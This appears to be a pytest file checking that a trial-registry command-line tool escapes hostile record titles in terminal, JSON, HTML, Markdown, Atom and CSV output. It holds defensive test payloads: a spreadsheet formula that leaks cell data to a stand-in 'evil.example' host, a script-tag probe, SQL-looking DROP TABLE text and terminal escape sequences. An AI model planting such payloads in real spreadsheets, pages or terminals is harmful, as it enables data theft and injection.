"""Hostile registry text on the way out: stored verbatim, never injected into a terminal.

Titles with ``<script>``, SQL-looking text, control characters (ESC, BEL, NUL, DEL) and
invalid UTF-8 come from the simulator's ``script_title`` / ``control_chars`` faults;
every command that prints registry text runs as the real console script.  Text output
shows control characters as ``\\xNN``; JSON output is valid JSON that decodes to the
verbatim stored text, with C0, DEL and C1 characters as ``\\u`` escapes.

The report formats (HTML, Markdown, Atom, e-mail) come with issue 3 and must escape
the same titles; see notes/README-issue5.md.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from pipeline.render_table import escape_controls, short
from pipeline.simulator import Corpus, SimulatorServer
from pipeline.simulator.faults import SCRIPT_TITLE

from test_faults_sim import write_config

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
CONTROL_BYTES = {*range(0x00, 0x09), *range(0x0B, 0x20), 0x7F}  # newline and tab are layout


def trialwatch(config, *args):
    exe = shutil.which("trialwatch", path=str(Path(sys.executable).parent))
    cmd = [exe] if exe else [sys.executable, "-m", "pipeline"]
    return subprocess.run([*cmd, "--config", str(config), *args], capture_output=True, timeout=120)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    corpus = Corpus(size=12, seed=1)
    with SimulatorServer(corpus) as server:
        config = write_config(tmp, server, corpus.ids, ctgov="ids_per_request = 1")  # one fault per request
        assert trialwatch(config.path, "refresh").returncode == 0
        nct_script, nct_control, who_control = corpus.ids[0], corpus.ids[1], corpus.ids[8]
        server.set_faults([
            {"match": "/api/v2/studies", "kind": "script_title", "trial": nct_script},
            {"match": "/Trial2.aspx", "kind": "script_title", "trial": nct_script},
            {"match": "/api/v2/studies", "kind": "script_title", "trial": corpus.ids[2], "title": FORMULA_TITLE},
            {"match": "/api/v2/studies", "kind": "control_chars", "mode": "escaped", "trial": nct_control},
            {"match": "/Trial2.aspx", "kind": "control_chars", "trial": who_control},
        ])
        result = trialwatch(config.path, "refresh")
        assert result.returncode == 0, result.stderr
    return config.path, nct_script, nct_control, who_control


def _no_control_bytes(out: bytes):
    found = sorted({b for b in out if b in CONTROL_BYTES})
    assert not found, f"control bytes reached the terminal: {[hex(b) for b in found]}"
    assert b"\xc2\x9b" not in out and b"\xc2\x9d" not in out  # C1 CSI / OSC


def test_text_output_never_carries_control_characters(hostile_db):
    config, nct_script, nct_control, who_control = hostile_db
    for args in (
        ["show", nct_control], ["show", who_control, "--source", "who"], ["changes"],
        ["history", nct_control], ["history", who_control], ["watch", "list"],
    ):
        result = trialwatch(config, *args)
        assert result.returncode == 0, (args, result.stderr)
        _no_control_bytes(result.stdout)
    shown = trialwatch(config, "show", nct_control).stdout.decode()
    assert "\\x1b" in shown or "\\x00" in shown  # shown escaped, not dropped


def test_json_output_is_valid_and_verbatim(hostile_db):
    config, nct_script, nct_control, who_control = hostile_db
    for trial, source in ((nct_script, "ctgov"), (nct_script, "who")):
        out = trialwatch(config, "show", trial, "--source", source, "--json").stdout
        assert json.loads(out)["public_title"] == SCRIPT_TITLE
    out = trialwatch(config, "show", nct_control, "--json").stdout
    _no_control_bytes(out.replace(b"\n", b""))
    title = json.loads(out)["public_title"]
    assert "\x1b" in title or "\x00" in title  # the stored text, verbatim
    rows = json.loads(trialwatch(config, "changes", "--json").stdout)
    assert any(r["new"] == SCRIPT_TITLE for r in rows)


def test_script_and_sql_text_is_plain_text_in_the_terminal(hostile_db):
    config, nct_script, *_ = hostile_db
    out = trialwatch(config, "show", nct_script).stdout.decode()
    assert "<script>alert(1)</script>" in out  # a terminal is no browser: verbatim is right
    assert "DROP TABLE snapshots" in out
    assert trialwatch(config, "changes").returncode == 0  # ... and the tables are all there


@pytest.mark.parametrize(
    "text,expected",
    [("a\x1b[31mb", "a\\x1b[31mb"), ("bell\x07", "bell\\x07"), ("nul\x00", "nul\\x00"), ("csi\x9b2J", "csi\\x9b2J"),
     ("del\x7f", "del\\x7f"), ("caf\u00e9 \u4e2d\u6587", "caf\u00e9 \u4e2d\u6587")],
)
def test_escape_controls(text, expected):
    assert escape_controls(text) == expected
    assert short(text, 200) == expected


# -- the report formats (issue 3) ---------------------------------------------------------------


def _report(config, fmt):
    result = trialwatch(config, "report", "--since", "7d", "--format", fmt)
    assert result.returncode == 0, result.stderr
    assert b"Traceback" not in result.stderr
    return result.stdout


def test_html_report_escapes_script_and_control_characters(hostile_db):
    config = hostile_db[0]
    out = _report(config, "html").decode("utf-8")
    assert "<script>alert" not in out and "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    _no_control_bytes(out.replace("\n", "").replace("\t", "").encode())


def test_markdown_report_escapes_markup(hostile_db):
    config = hostile_db[0]
    out = _report(config, "markdown").decode("utf-8")
    assert "<script>" not in out and "\\<script\\>" in out
    _no_control_bytes(out.replace("\n", "").encode())


def test_atom_report_is_well_formed_xml(hostile_db):
    import xml.etree.ElementTree as ET

    config = hostile_db[0]
    out = _report(config, "atom")
    root = ET.fromstring(out)  # control characters XML forbids would make this fail
    titles = [e.text or "" for e in root.iter() if e.tag.endswith("title")]
    assert any("<script>alert(1)</script>" in t for t in titles) or b"&lt;script&gt;" in out


def test_json_and_text_reports(hostile_db):
    config = hostile_db[0]
    doc = json.loads(_report(config, "json"))
    assert any(r.get("new") == SCRIPT_TITLE for r in doc["changes"])
    _no_control_bytes(_report(config, "text").replace(b"\n", b""))


def test_csv_report_cannot_smuggle_a_spreadsheet_formula(hostile_db):
    import csv
    import io

    config = hostile_db[0]
    out = _report(config, "csv").decode("utf-8")
    _no_control_bytes(out.replace("\r\n", "").encode())
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = [v for r in rows for v in r.values() if v]
    assert any("HYPERLINK" in v for v in cells)
    dangerous = [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, f"cells a spreadsheet would run as formulas: {dangerous[:3]}"
